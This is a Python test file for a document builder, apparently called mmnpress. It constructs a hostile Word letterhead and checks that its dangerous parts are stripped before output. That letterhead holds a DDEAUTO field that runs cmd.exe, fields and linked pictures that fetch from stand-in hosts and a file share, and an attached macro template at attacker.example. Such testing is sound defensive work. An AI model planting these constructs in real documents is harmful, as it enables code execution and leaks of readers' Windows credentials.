"""A letterhead's attached template, live fields and linked pictures never reach a Word file built on it.

The letterheads are made with python-docx and lxml, as an organisation's
document could be: an attached macro template on a web server, DDEAUTO (runs a
program), INCLUDEPICTURE / INCLUDETEXT / LINK (fetch files, leaking the
reader's Windows login to a file://host share), pictures linked rather than
embedded, fields marked dirty so Word updates them on opening. Every kind is
built with the real command line, then each output is unzipped and read.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml
from docx.shared import Cm

from tests.docx_reader import header_images, header_text
from tests.hostile.helpers import assert_no_traceback, mmnpress
from tests.letterheads import LOGO

KINDS = ("statement", "press-release", "position-paper")
STATIC = "Harbour Workers Union, 5 Harbour Lane"
SHOWN = "the last shown quarterly figure"
NS = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)
LIVE = ("DDEAUTO", "DDE", "INCLUDEPICTURE", "INCLUDETEXT", "LINK", "AUTHOR", "HYPERLINK")
KEPT_FIELDS = {"PAGE", "NUMPAGES", "SECTIONPAGES"}
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def complex_field(instruction: str, shown: str, dirty: bool = True) -> str:
    """Return the runs of a field written as w:fldChar begin / w:instrText / separate / end."""
    mark = ' w:dirty="true"' if dirty else ""
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"{mark}/></w:r><w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        f'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>{shown}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def simple_field(instruction: str, shown: str) -> str:
    instruction = instruction.replace('"', "&quot;")
    return f'<w:fldSimple w:instr=" {instruction} " w:dirty="true"><w:r><w:t>{shown}</w:t></w:r></w:fldSimple>'


def linked_blip(rid: str, embed: str | None = None) -> str:
    embedded = f' r:embed="{embed}"' if embed else ""
    return (
        f'<w:r><w:drawing><wp:inline><wp:extent cx="540000" cy="540000"/><wp:docPr id="7" name="Linked"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        f'<pic:nvPicPr><pic:cNvPr id="7" name="linked.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="{rid}"{embedded}/>'
        '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="540000" cy="540000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
    )


def hostile_letterhead(path: Path) -> Path:
    """Write a python-docx letterhead carrying every hazard beside static text and an embedded logo."""
    logo = path.parent / "logo.png"
    logo.write_bytes(LOGO)
    document = Document()
    section = document.sections[0]
    header = section.header
    header.paragraphs[0].text = STATIC
    header.add_paragraph().add_run().add_picture(str(logo), width=Cm(1.5))
    part = header.part
    share = part.relate_to("file://fileserver/share/logo.png", RT.IMAGE, is_external=True)
    web = part.relate_to("http://tracker.example/pixel.png", RT.IMAGE, is_external=True)
    embedded = next(rid for rid, rel in part.rels.items() if rel.reltype == RT.IMAGE and not rel.is_external)
    frame = part.relate_to("http://tracker.example/sheet.xls", RT.OLE_OBJECT, is_external=True)
    header._element.append(
        parse_xml(
            f"<w:p {NS}>"
            + complex_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', SHOWN)
            + simple_field('INCLUDEPICTURE "http://tracker.example/logo.png" \\d', "")
            + complex_field('INCLUDETEXT "\\\\\\\\fileserver\\\\share\\\\note.docx"', "included text")
            + complex_field('LINK Excel.Sheet.8 "http://tracker.example/x.xls" Sheet1', "linked cells")
            + complex_field("AUTHOR", "an author")
            + simple_field('DDE excel "x" "y"', "dde shown")
            + complex_field('HYPERLINK "http://tracker.example/"', "a field hyperlink")
            + linked_blip(share)
            + linked_blip(web, embedded)
            + f'<w:r><w:pict><v:shape style="width:20pt;height:20pt"><v:imagedata r:id="{share}" o:title=""/></v:shape></w:pict></w:r>'
            + '<w:r><w:pict><v:shape style="width:20pt;height:20pt"><v:imagedata o:href="file://fileserver/share/vml.png"/></v:shape></w:pict></w:r>'
            + f'<w:r><w:t xml:space="preserve"> framed </w:t></w:r><w:r><w:object r:id="{frame}"/></w:r></w:p>'
        )
    )
    footer = section.footer
    footer._element.append(
        parse_xml(
            f'<w:p {NS}><w:r><w:t xml:space="preserve">Page </w:t></w:r>'
            + complex_field("PAGE", "1")
            + '<w:r><w:t xml:space="preserve"> of </w:t></w:r>'
            + simple_field("NUMPAGES", "2")
            + complex_field('IF 1 = 1 "yes" "no"', "nested")
            + "</w:p>"
        )
    )
    template = document.part._settings_part.relate_to("http://attacker.example/macro.dotm", REL + "attachedTemplate", is_external=True)
    document.settings.element.append(parse_xml(f'<w:attachedTemplate {NS} r:id="{template}"/>'))
    document.settings.element.append(parse_xml(f'<w:updateFields {NS} w:val="true"/>'))
    document.save(path)
    return path


@pytest.fixture
def harbour(tmp_path) -> Path:
    """Return a project made by `init` whose profile names the hostile letterhead."""
    assert mmnpress("init", "--name", "Harbour Workers Union", "--organisation", "harbour", cwd=tmp_path).status == 0
    folder = tmp_path / "templates/harbour"
    profile = folder / "profile.yaml"
    profile.write_text(profile.read_text(encoding="utf-8").replace("# letterhead: letterhead.docx", "letterhead: letterhead.docx"), encoding="utf-8")
    hostile_letterhead(folder / "letterhead.docx")
    return tmp_path


def parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist() if name.endswith((".xml", ".rels"))}


def field_names(xml: str) -> list[str]:
    simple = re.findall(r'w:instr="\s*\\?(\w+)', xml)
    complex_ = re.findall(r"<w:instrText[^>]*>\s*\\?(\w+)", xml)
    return [name.upper() for name in simple + complex_]


def test_the_letterhead_is_the_source_of_every_hazard(tmp_path):
    """The letterhead really carries what the build must strip (so the test below cannot pass vacuously)."""
    found = parts(hostile_letterhead(tmp_path / "letterhead.docx"))
    names = {n for xml in found.values() for n in field_names(xml)}
    assert set(LIVE) <= names
    assert "attachedTemplate" in found["word/settings.xml"] and 'TargetMode="External"' in found["word/_rels/settings.xml.rels"]
    assert "r:link=" in "".join(found.values()) and "o:href=" in "".join(found.values())


def test_nothing_live_reaches_a_word_file_built_on_the_letterhead(harbour):
    run = mmnpress("build", "--to", "docx", cwd=harbour)
    assert_no_traceback(run)
    assert run.status == 0, run.stderr
    said = [line for line in run.stderr.splitlines() if "letterhead.docx: removed" in line]
    assert len(said) == 1, run.stderr
    assert said[0].startswith("templates/harbour/letterhead.docx: removed the attached template http://attacker.example/macro.dotm")
    assert all(name in said[0] for name in ("DDEAUTO", "INCLUDEPICTURE", "INCLUDETEXT", "LINK", "linked picture")), said[0]
    for kind in KINDS:
        out = harbour / "build" / f"example-{kind}.docx"
        found = parts(out)
        every = "".join(found.values())
        names = [n for xml in found.values() for n in field_names(xml)]
        assert set(names) <= KEPT_FIELDS and "PAGE" in names, names
        assert "attachedTemplate" not in every and "updateFields" not in every and "mailMerge" not in every
        for name, xml in found.items():
            if name.endswith(".rels"):
                for rel in re.findall(r"<Relationship [^>]*>", xml):
                    assert 'TargetMode="External"' not in rel or rel.count("/hyperlink") == 1, (name, rel)
        assert "r:link=" not in every and "o:href=" not in every and "<w:object" not in every
        assert "tracker.example" not in every
        assert "fileserver" not in every and "attacker.example" not in every and "cmd.exe" not in every
        header = header_text(out)
        assert STATIC in header and SHOWN in header and "included text" in header and "framed" in header, header
        assert LOGO in header_images(out)  # the embedded logo (twice: the linked-and-embedded picture keeps its copy)
        for xml in found.values():  # only mmnpress's own page fields may be marked for updating
            for dirty in re.findall(r"<w:fld(?:Simple|Char)[^>]*w:dirty[^>]*>", xml):
                assert 'fldCharType="begin"' in dirty or re.search(r'w:instr="\s*(PAGE|NUMPAGES|SECTIONPAGES)\b', dirty), dirty


def test_check_says_what_the_letterhead_loses(harbour):
    run = mmnpress("check", cwd=harbour)
    assert_no_traceback(run)
    lines = [line for line in run.stdout.splitlines() if "letterhead.docx" in line]
    assert lines and all(line.startswith("templates/harbour/letterhead.docx:1:1:") for line in lines), run.stdout
    assert "DDEAUTO" in lines[0] and "attached template" in lines[0]


def test_a_letterhead_with_macros_stays_refused(harbour):
    letterhead = harbour / "templates/harbour/letterhead.docx"
    with zipfile.ZipFile(letterhead, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 512)
    run = mmnpress("build", "--to", "docx", cwd=harbour)
    assert_no_traceback(run)
    assert run.status == 2 and "macros" in run.stderr, run.stderr
    assert not list((harbour / "build").glob("*.docx")) if (harbour / "build").exists() else True
